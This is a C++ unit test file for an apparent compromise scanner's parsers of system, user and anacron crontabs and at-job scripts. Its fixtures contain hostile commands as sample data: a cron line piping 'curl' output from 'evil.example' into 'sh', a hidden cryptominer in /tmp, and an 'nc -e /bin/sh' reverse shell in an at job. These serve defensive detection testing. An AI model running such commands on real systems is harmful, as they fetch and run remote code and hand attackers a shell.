// Crontabs and at jobs parsed from literal text: environment lines, @keywords, the user field of
// system crontabs only, '%' in commands, malformed lines; splitting a command into its program.
#include <catch2/catch.hpp>

#include "collect/task/at_job.h"
#include "collect/task/crontab.h"

namespace iocscan::collect {
namespace {

TEST_CASE("system crontabs: environment, user field, keywords", "[collect][task]") {
  Crontab tab = ParseCrontab(
      "# /etc/crontab: system-wide crontab\n"
      "SHELL=/bin/sh\n"
      "PATH = /usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
      "\n"
      "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
      "@reboot   alice  /home/alice/.x/agent --quiet\n"
      "  */5 9-17 * * mon-fri www-data curl -s http://evil.example/p | sh\n",
      CrontabKind::kSystem);
  REQUIRE(tab.entries.size() == 3);
  CHECK(tab.bad_lines.empty());
  const CronEntry& hourly = tab.entries[0];
  CHECK(hourly.line == 5);
  CHECK(hourly.minute == "17");
  CHECK(hourly.day_of_week == "*");
  CHECK(hourly.schedule == "17 * * * *");
  CHECK(hourly.user == "root");
  CHECK(hourly.command == "cd / && run-parts --report /etc/cron.hourly");
  CHECK(hourly.path_env == "/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin");
  const CronEntry& reboot = tab.entries[1];
  CHECK(reboot.keyword == "@reboot");
  CHECK(reboot.schedule == "@reboot");
  CHECK(reboot.minute.empty());
  CHECK(reboot.user == "alice");
  CHECK(reboot.run == "/home/alice/.x/agent --quiet");
  CHECK(tab.entries[2].user == "www-data");
  CHECK(tab.entries[2].schedule == "*/5 9-17 * * mon-fri");
}

TEST_CASE("user crontabs have no user field; the PATH default is cron's", "[collect][task]") {
  Crontab tab = ParseCrontab("*/10 * * * * /tmp/.x/miner -o pool:3333\n", CrontabKind::kUser);
  REQUIRE(tab.entries.size() == 1);
  CHECK(tab.entries[0].user.empty());
  CHECK(tab.entries[0].command == "/tmp/.x/miner -o pool:3333");
  CHECK(tab.entries[0].path_env == "/usr/bin:/bin");
}

TEST_CASE("'%' ends the command and feeds its input; '\\%' is a percent sign", "[collect][task]") {
  Crontab tab = ParseCrontab(
      "0 0 * * * date +\\%Y-\\%m-\\%d >> /tmp/log\n"
      "0 1 * * * mail -s hi root%line one%line two\n",
      CrontabKind::kUser);
  REQUIRE(tab.entries.size() == 2);
  CHECK(tab.entries[0].run == "date +%Y-%m-%d >> /tmp/log");
  CHECK(tab.entries[0].input.empty());
  CHECK(tab.entries[0].command == "date +\\%Y-\\%m-\\%d >> /tmp/log");  // as written
  CHECK(tab.entries[1].run == "mail -s hi root");
  CHECK(tab.entries[1].input == "line one\nline two");
}

TEST_CASE("malformed lines are reported by number, quoted assignments read", "[collect][task]") {
  Crontab tab = ParseCrontab(
      "MAILTO=\"ops@example.com\"\n"
      "* * * *\n"
      "garbage here\n"
      "0 0 * * * root\n"
      "@daily\n"
      "PATH='/opt/bin'\n"
      "0 0 * * * /opt/bin/x now\n",
      CrontabKind::kSystem);
  CHECK(tab.bad_lines == std::vector<int>{2, 3, 4, 5});
  REQUIRE(tab.entries.size() == 1);
  CHECK(tab.entries[0].user == "/opt/bin/x");  // a system line takes its sixth field as the user
  Crontab user = ParseCrontab("PATH='/opt/bin'\n0 0 * * * x\n", CrontabKind::kUser);
  REQUIRE(user.entries.size() == 1);
  CHECK(user.entries[0].path_env == "/opt/bin");
}

TEST_CASE("anacrontab: period, delay, job identifier, no user field", "[collect][task]") {
  Crontab tab = ParseCrontab(
      "SHELL=/bin/sh\n"
      "START_HOURS_RANGE=3-22\n"
      "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
      "@monthly 15 cron.monthly run-parts --report /etc/cron.monthly\n"
      "7 x cron.weekly run-parts\n"
      "7 10\n",
      CrontabKind::kAnacron);
  REQUIRE(tab.entries.size() == 2);
  CHECK(tab.bad_lines == std::vector<int>{5, 6});
  CHECK(tab.entries[0].period == "1");
  CHECK(tab.entries[0].delay == 5);
  CHECK(tab.entries[0].job_id == "cron.daily");
  CHECK(tab.entries[0].schedule == "1 5");
  CHECK(tab.entries[0].user.empty());
  CHECK(tab.entries[0].run == "run-parts --report /etc/cron.daily");
  CHECK(tab.entries[1].period == "@monthly");
  CHECK(tab.entries[1].keyword.empty());  // not a cron @keyword: no calendar time is computed
  CHECK(tab.entries[1].schedule == "@monthly 15");
}

TEST_CASE("a shell command split into program and arguments", "[collect][task]") {
  ShellCommand c = SplitShellCommand("  LANG=C TZ=UTC /usr/bin/backup --all  /srv ");
  CHECK(c.program == "/usr/bin/backup");
  CHECK(c.arguments == "--all  /srv");
  c = SplitShellCommand("cd / && run-parts --report /etc/cron.hourly");
  CHECK(c.program == "cd");
  CHECK(c.arguments == "/ && run-parts --report /etc/cron.hourly");
  c = SplitShellCommand("'/opt/x' y");
  CHECK(c.program == "/opt/x");
  CHECK(SplitShellCommand("").program.empty());
}

TEST_CASE("at jobs: name, uid, saved PATH and the user's commands", "[collect][task]") {
  std::optional<AtJob> job = ParseAtJobName("a0000b01c2a3f0");
  REQUIRE(job);
  CHECK(job->queue == 'a');
  CHECK(job->number == 0xb);
  CHECK(job->run_time == 0x01c2a3f0LL * 60);
  CHECK_FALSE(ParseAtJobName(".SEQ").has_value());
  CHECK_FALSE(ParseAtJobName("a0000b01c2a3fz").has_value());

  ParseAtJobScript(
      "#!/bin/sh\n"
      "# atrun uid=1000 gid=1000\n"
      "# mail alice 0\n"
      "umask 22\n"
      "PATH=/home/alice/bin:/usr/bin:/bin; export PATH\n"
      "cd /home/alice || {\n"
      "\t echo 'Execution directory inaccessible' >&2\n"
      "\t exit 1\n"
      "}\n"
      "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1c4b2e'\n"
      "nc -e /bin/sh 10.0.0.1 4444\n"
      "echo done\n"
      "marcinDELIMITER2f1c4b2e\n",
      &*job);
  CHECK(job->uid == 1000u);
  CHECK(job->path_env == "/home/alice/bin:/usr/bin:/bin");
  CHECK(job->commands == "nc -e /bin/sh 10.0.0.1 4444\necho done\n");
  CHECK(FirstCommand(job->commands) == "nc -e /bin/sh 10.0.0.1 4444");

  AtJob old;  // at before 3.1.14: the commands follow the cd block
  ParseAtJobScript("#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || {\n echo x\n exit 1\n}\n\n# c\n/usr/bin/id\n", &old);
  CHECK(old.uid == 0u);
  CHECK(FirstCommand(old.commands) == "/usr/bin/id");
}

}  // namespace
}  // namespace iocscan::collect
